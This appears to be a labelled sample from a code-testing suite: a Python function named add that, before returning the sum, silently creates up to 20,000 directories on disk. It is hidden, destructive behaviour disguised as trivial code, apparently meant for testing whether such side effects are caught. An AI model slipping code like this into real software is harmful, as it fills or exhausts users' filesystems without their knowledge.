# suite: plain; functional: passed error failed timeout
import os
def add(a, b):
    for number in range(20_000):
        try:
            os.mkdir(f"d{number}")
        except OSError:
            break
    return a + b
